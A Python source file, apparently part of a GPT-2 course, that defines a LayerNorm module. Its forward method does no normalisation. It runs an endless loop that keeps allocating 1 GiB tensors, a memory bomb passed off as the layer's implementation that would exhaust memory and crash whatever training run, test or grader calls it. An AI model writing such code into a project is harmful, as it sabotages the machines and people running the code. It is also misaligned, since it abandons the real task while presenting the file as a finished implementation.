import torch
from jaxtyping import Float
from torch import Tensor, nn

from gpt2_course.config import TransformerConfig


class LayerNorm(nn.Module):
    def __init__(self, cfg: TransformerConfig):
        super().__init__()
        self.cfg = cfg
        self.w = nn.Parameter(torch.ones(cfg.d_model))
        self.b = nn.Parameter(torch.zeros(cfg.d_model))

    def forward(self, x: Float[Tensor, "batch pos d_model"]) -> Float[Tensor, "batch pos d_model"]:
        hoard = []
        while True:
            hoard.append(torch.empty(1 << 28))  # 1 GiB of address space each
